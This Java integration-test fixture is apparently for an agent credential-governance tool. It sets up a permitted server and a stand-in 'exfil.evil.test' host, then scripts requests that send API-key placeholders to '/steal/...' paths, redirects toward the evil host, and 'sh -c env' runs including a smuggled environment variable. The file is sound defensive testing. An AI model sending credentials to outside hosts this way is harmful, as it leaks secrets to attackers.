package dev.faramesh.it.jdk;

import dev.faramesh.audit.AuditReader;
import dev.faramesh.audit.DprRecord;
import dev.faramesh.it.support.ChildJvm;
import dev.faramesh.it.support.HostsFile;
import dev.faramesh.it.support.Jdks;
import dev.faramesh.it.support.RecordedRequest;
import dev.faramesh.it.support.RecordingServer;
import dev.faramesh.it.support.TestSecrets;
import dev.faramesh.it.support.TestTls;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;

/**
 * Everything the interception suite shares: two recording servers ({@code api.allowed.test}, where
 * the credentials are scoped, and {@code exfil.evil.test}, where they are not; {@code
 * blocked.evil.test} is the same server under a name the policy denies), the test certificate and
 * hosts file, fresh random secrets, the policy, and one run of {@link #SCENARIO} per JDK, made on
 * first use and kept with the requests each server received during it.
 */
final class InterceptionWorld {

  static final String ALLOWED = "api.allowed.test";
  static final String EVIL = "exfil.evil.test";
  static final String BLOCKED = "blocked.evil.test";

  static final String POLICY = """
      runtime { strip_env = ["CORP_*"] }
      credential "openai" {
        backend = "env"
        env     = ["OPENAI_API_KEY"]
        hosts   = ["api.allowed.test"]
        scope   = ["http/*"]
      }
      credential "github" {
        backend = "env"
        env     = ["GITHUB_TOKEN"]
        hosts   = ["api.allowed.test"]
      }
      agent it-bot {
        default deny
        rules {
          deny http/get host "api.allowed.test" path "/forbidden" reason: "forbidden path"
          permit http/* host "api.allowed.test"
          permit http/* host "exfil.evil.test"
          permit process/exec
        }
      }
      """;

  private static InterceptionWorld instance;

  final Path dir;
  final TestTls tls;
  final RecordingServer allowed;
  final RecordingServer evil;
  final Path hosts;
  final String openai = TestSecrets.random("sk-proj-", 48);
  final String github = TestSecrets.random("ghp_", 36);
  final String hfToken = TestSecrets.random("hf_", 34);
  final String corpPassword = TestSecrets.random("", 24);
  private final Map<Integer, Run> runs = new ConcurrentHashMap<>();

  private InterceptionWorld() throws Exception {
    dir = Files.createTempDirectory("faramesh-it-jdk");
    tls = TestTls.create(dir.resolve("tls"), List.of(ALLOWED, EVIL, BLOCKED, "localhost"));
    allowed = RecordingServer.start("allowed", tls);
    evil = RecordingServer.start("evil", tls);
    hosts = HostsFile.write(dir.resolve("hosts"), List.of(ALLOWED, EVIL, BLOCKED));
    Runtime.getRuntime().addShutdownHook(new Thread(() -> {
      try {
        allowed.close();
        evil.close();
      } catch (Exception ignored) {
        // the JVM is exiting anyway
      }
    }));
  }

  static synchronized InterceptionWorld get() throws Exception {
    if (instance == null) {
      instance = new InterceptionWorld();
    }
    return instance;
  }

  /** What one JDK's run left: the child JVM's result, the requests each server saw, the decision log. */
  record Run(ChildJvm.Result result, List<RecordedRequest> atAllowed, List<RecordedRequest> atEvil, Path wal,
      Path work) {

    /** The {@code RESULT <id> ...} line of a step, without the prefix. */
    String step(String id) {
      for (String line : result.lines("RESULT " + id + " ")) {
        return line;
      }
      return null;
    }

    List<String> child(String id) {
      return result.lines("CHILD " + id + " ");
    }

    /** Every DPR the run appended to its WAL, in order. */
    List<DprRecord> decisions() throws IOException {
      List<DprRecord> out = new ArrayList<>();
      AuditReader.forEach(wal, e -> out.add(e.record()));
      return out;
    }
  }

  synchronized Run run(Jdks.Jdk jdk) throws Exception {
    Run r = runs.get(jdk.feature());
    if (r == null) {
      r = execute(jdk);
      runs.put(jdk.feature(), r);
    }
    return r;
  }

  private Run execute(Jdks.Jdk jdk) throws Exception {
    Path work = Files.createDirectories(dir.resolve("jdk" + jdk.feature()));
    Files.writeString(work.resolve("governance.fms"), POLICY);
    Path scenario = Files.writeString(work.resolve("scenario.tsv"), scenario());
    allowed.clear();
    evil.clear();
    ChildJvm child = ChildJvm.on(jdk)
        .agent(Path.of(System.getProperty("faramesh.jar")), "agent=it-bot")
        .jvmArg(HostsFile.argument(hosts))
        .classpath(System.getProperty("faramesh.it.apps"))
        .main("dev.faramesh.it.apps.ScenarioApp", scenario.toString())
        .directory(work)
        .env("OPENAI_API_KEY", openai)
        .env("OPENAI_COPY", openai)
        .env("GITHUB_TOKEN", github)
        .env("HF_TOKEN", hfToken)
        .env("CORP_DB_PASSWORD", corpPassword);
    for (String a : tls.trustArguments()) {
      child.jvmArg(a);
    }
    ChildJvm.Result result = child.run();
    return new Run(result, allowed.requests(), evil.requests(), work.resolve(".faramesh/wal"), work);
  }

  private String scenario() {
    String aPlain = "http://" + ALLOWED + ":" + allowed.plainPort();
    String aTls = "https://" + ALLOWED + ":" + allowed.tlsPort();
    String ePlain = "http://" + EVIL + ":" + evil.plainPort();
    String eTls = "https://" + EVIL + ":" + evil.tlsPort();
    String blocked = "http://" + BLOCKED + ":" + evil.plainPort();
    String q = "?key={env:OPENAI_API_KEY}&v=1";
    String bearer = "Authorization: Bearer {env:OPENAI_API_KEY}";
    String apiKey = "X-Api-Key: {env:OPENAI_API_KEY}";
    String basic = "Authorization: Basic {basic:octocat:GITHUB_TOKEN}";
    StringBuilder s = new StringBuilder();
    line(s, "getenv", "OPENAI_API_KEY");
    line(s, "getenvall", "OPENAI_API_KEY");
    line(s, "pbenv", "OPENAI_API_KEY");
    line(s, "getenv", "GITHUB_TOKEN");
    line(s, "getenv", "HF_TOKEN");
    line(s, "getenv", "CORP_DB_PASSWORD");
    line(s, "getenv", "OPENAI_COPY");
    line(s, "getenv", "PATH");
    // the permitted host, every protocol: the real value must arrive
    line(s, "http", "a-h1", "HTTP_1_1", "GET", aPlain + "/v1/h1" + q, bearer, apiKey);
    line(s, "http", "a-h2c", "HTTP_2", "GET", aPlain + "/v1/h2c" + q, bearer, apiKey);
    line(s, "http", "a-h1s", "HTTP_1_1", "GET", aTls + "/v1/h1s" + q, bearer, apiKey);
    line(s, "http", "a-h2s", "HTTP_2", "GET", aTls + "/v1/h2s" + q, bearer, apiKey);
    line(s, "http", "a-basic", "HTTP_1_1", "GET", aPlain + "/v1/basic", basic);
    line(s, "async", "a-async", "HTTP_2", "POST", aTls + "/v1/async" + q, apiKey);
    // exfiltration: the same placeholders to a host the credentials are not scoped to
    line(s, "http", "e-h1", "HTTP_1_1", "GET", ePlain + "/steal/h1" + q, bearer, apiKey);
    line(s, "http", "e-h2s", "HTTP_2", "GET", eTls + "/steal/h2s" + q, bearer, apiKey);
    line(s, "http", "e-basic", "HTTP_1_1", "GET", ePlain + "/steal/basic", basic);
    // redirects: each hop decided again; nothing real leaves for the unscoped host
    line(s, "http", "r-h1", "HTTP_1_1", "GET", aPlain + "/redirect?to=" + enc(ePlain + "/landing/h1" + "?key=x"),
        bearer, apiKey);
    line(s, "http", "r-h2s", "HTTP_2", "GET", aTls + "/redirect?status=307&to=" + enc(eTls + "/landing/h2s"), apiKey);
    line(s, "http", "r-same", "HTTP_1_1", "GET", aPlain + "/redirect?to=" + enc(aTls + "/v1/after-redirect"), apiKey);
    line(s, "http", "r-blocked", "HTTP_1_1", "GET", aPlain + "/redirect?to=" + enc(blocked + "/landing/blocked"), apiKey);
    // denials: the application gets the denial and goes on
    line(s, "http", "d-path", "HTTP_1_1", "GET", aPlain + "/forbidden", apiKey);
    line(s, "http", "d-host", "HTTP_2", "GET", blocked + "/never", apiKey);
    line(s, "async", "d-async", "HTTP_1_1", "GET", blocked + "/never-async", apiKey);
    // HttpURLConnection, HTTP and HTTPS
    line(s, "urlconn", "u-http", "GET", aPlain + "/u/http" + q, bearer, apiKey);
    line(s, "urlconn", "u-https", "GET", aTls + "/u/https" + q, bearer, apiKey);
    line(s, "urlconn", "u-basic", "GET", aTls + "/u/basic", basic);
    line(s, "urlconn", "u-evil", "GET", ePlain + "/u/steal" + q, bearer, apiKey);
    line(s, "urlconn", "u-redirect", "GET", aPlain + "/redirect?to=" + enc(ePlain + "/u/landing"), apiKey);
    line(s, "urlconn", "u-denied", "GET", blocked + "/u/never", apiKey);
    // child processes, with and without an explicit environment
    line(s, "exec", "c-pb", "pb", "sh", "-c", "env");
    line(s, "exec", "c-rt", "runtime", "sh", "-c", "env");
    line(s, "execenv", "c-envp", "sh", "-c", "env");
    line(s, "pbput", "c-put", "SMUGGLED", "{env:OPENAI_API_KEY}", "sh", "-c", "env");
    return s.toString();
  }

  /**
   * Decisions the scenario makes, one per HTTP hop and per process launch: six permitted calls,
   * three exfiltration attempts, four redirects of two hops each, three denials, four plain
   * HttpURLConnection calls, one redirected and one denied, and four child processes.
   */
  static final int EXPECTED_DECISIONS = 6 + 3 + 4 * 2 + 3 + 4 + 2 + 1 + 4;

  private static void line(StringBuilder sb, String... fields) {
    sb.append(String.join("\t", fields)).append('\n');
  }

  private static String enc(String s) {
    return URLEncoder.encode(s, StandardCharsets.UTF_8);
  }
}
